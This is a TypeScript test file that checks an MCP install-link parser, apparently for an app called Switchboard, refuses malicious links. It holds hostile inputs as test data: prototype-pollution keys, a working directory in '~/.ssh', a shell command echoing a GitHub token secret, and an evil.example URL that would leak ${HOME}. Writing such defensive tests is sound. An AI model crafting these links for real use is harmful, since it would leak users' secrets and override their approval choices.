import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { MAX_LINK_LENGTH, parseInstallLink } from '../../../src-main/core/install/install-link';

const config = (entry: unknown) => Buffer.from(JSON.stringify(entry)).toString('base64url');

describe('install links', () => {
  it('reads catalog, registry and config links', () => {
    expect(parseInstallLink('switchboard://install?catalog=memory&name=mem')).toEqual({ ok: true, link: { kind: 'catalog', catalog: 'memory', name: 'mem' } });
    expect(parseInstallLink('switchboard://install?registry=io.github.brave%2Fbrave-search-mcp-server')).toEqual({ ok: true, link: { kind: 'registry', registry: 'io.github.brave/brave-search-mcp-server' } });
    const entry = { command: 'npx', args: ['-y', '@modelcontextprotocol/server-memory'] };
    expect(parseInstallLink(`switchboard://install?config=${config(entry)}&name=memory`)).toEqual({ ok: true, link: { kind: 'config', entry: { ...entry, env: {} }, name: 'memory' } });
  });

  it('gives the form exactly the fields it shows: what it runs or reaches, nothing else', () => {
    const remote = { type: 'http', url: 'https://mcp.example.com/mcp', headers: { 'X-Team': 'blue' } };
    expect(parseInstallLink(`switchboard://install?config=${config(remote)}`)).toEqual({ ok: true, link: { kind: 'config', entry: { url: remote.url, headers: remote.headers, transport: 'streamable-http' } } });
    expect(parseInstallLink(`switchboard://install?config=${config({ url: 'https://mcp.example.com/mcp' })}`)).toMatchObject({ ok: true, link: { entry: { transport: 'auto' } } });
  });

  it.each([
    [{ command: 'npx', args: ['-y', 'x'], approval: 'auto' }, '"approval" is not something a link may set; you choose what Switchboard asks'],
    [{ command: 'npx', approval: 'ask' }, '"approval" is not something a link may set; you choose what Switchboard asks'],
    [{ command: 'npx', prefix: 'github' }, '"prefix" is a field the install form does not show, so a link may not set it'],
    [{ url: 'https://a.example/mcp', timeout: 900, toolTimeout: 900 }, '"timeout", "toolTimeout" are fields the install form does not show, so a link may not set them'],
    [{ command: 'npx', cwd: '/home/me/.ssh' }, '"cwd" is a field the install form does not show, so a link may not set it'],
    [{ command: 'npx', enabled: true }, '"enabled" is a field the install form does not show, so a link may not set it'],
    [JSON.parse('{"command":"npx","env":{"__proto__":{"polluted":"yes"}}}'), '"env.__proto__" is a key Switchboard never saves'],
    [JSON.parse('{"command":"npx","__proto__":{"approval":"auto"}}'), '"__proto__" is a field the install form does not show, so a link may not set it'],
  ])('refuses a link config with hidden fields %j (SECURITY V2)', (entry, why) => {
    expect(parseInstallLink(`switchboard://install?config=${config(entry)}`)).toEqual({ ok: false, message: `the install link's config is invalid: server "linked": ${why}` });
  });

  it.each([
    ['', 'the install link is empty'],
    ['not a url', 'the install link is not a URL'],
    ['https://install?catalog=memory', 'not a switchboard: link (https:)'],
    ['switchboard://open?catalog=memory', 'the link is not switchboard://install?…'],
    ['switchboard://install?catalog=memory&registry=a/b', 'the install link needs exactly one of catalog, registry or config'],
    ['switchboard://install?catalog=a&catalog=b', 'the install link gives "catalog" twice'],
    ['switchboard://install?catalog=memory&run=1', 'the install link has an unknown parameter "run"'],
    ['switchboard://install?catalog=memory&name=../x', `the install link's name "../x" is not a valid server name`],
    ['switchboard://install?config=%%%', `the install link's config is not base64url-encoded JSON`],
    [`switchboard://install?config=${config({ command: 'sh', args: ['-c', 'echo ${secret:github-token}'] })}`, `the install link's config uses \${…}, which a link may not (it could read your secrets)`],
    [`switchboard://install?config=${config({ url: 'https://evil.example/?k=${HOME}' })}`, `the install link's config uses \${…}, which a link may not (it could read your secrets)`],
    [`switchboard://install?config=${config({ command: 'a', url: 'https://a.example' })}`, `the install link's config is invalid: server "linked": has both "command" and "url"; a server is either local (command) or remote (url)`],
    [`switchboard://install?catalog=${'a'.repeat(MAX_LINK_LENGTH)}`, `the install link is over ${MAX_LINK_LENGTH} characters`],
  ])('refuses %j with an exact reason', (link, message) => {
    expect(parseInstallLink(link)).toEqual({ ok: false, message });
  });

  it('never throws, and never lets a ${…} reference through, whatever the link (fuzzed)', () => {
    const anyText = fc.string({ unit: 'binary', maxLength: 300 });
    const linkish = fc.tuple(fc.constantFrom('catalog', 'registry', 'config', 'name', 'x'), anyText).map(([k, v]) => `${k}=${encodeURIComponent(v)}`);
    const links = fc.oneof(
      anyText,
      fc.array(linkish, { maxLength: 4 }).map((parts) => `switchboard://install?${parts.join('&')}`),
      fc.jsonValue().map((v) => `switchboard://install?config=${config(v)}`),
      fc.record({ command: anyText, args: fc.array(anyText, { maxLength: 4 }), env: fc.dictionary(anyText, anyText, { maxKeys: 3 }) }).map((e) => `switchboard://install?config=${config(e)}`),
    );
    fc.assert(
      fc.property(links, (link) => {
        const parsed = parseInstallLink(link);
        if (parsed.ok) {
          expect(JSON.stringify(parsed.link)).not.toContain('${');
          if (parsed.link.name !== undefined) expect(parsed.link.name).toMatch(/^[A-Za-z0-9_.-]{1,100}$/);
        } else {
          expect(parsed.message.length).toBeGreaterThan(0);
        }
      }),
      { numRuns: 3000 },
    );
  });
});
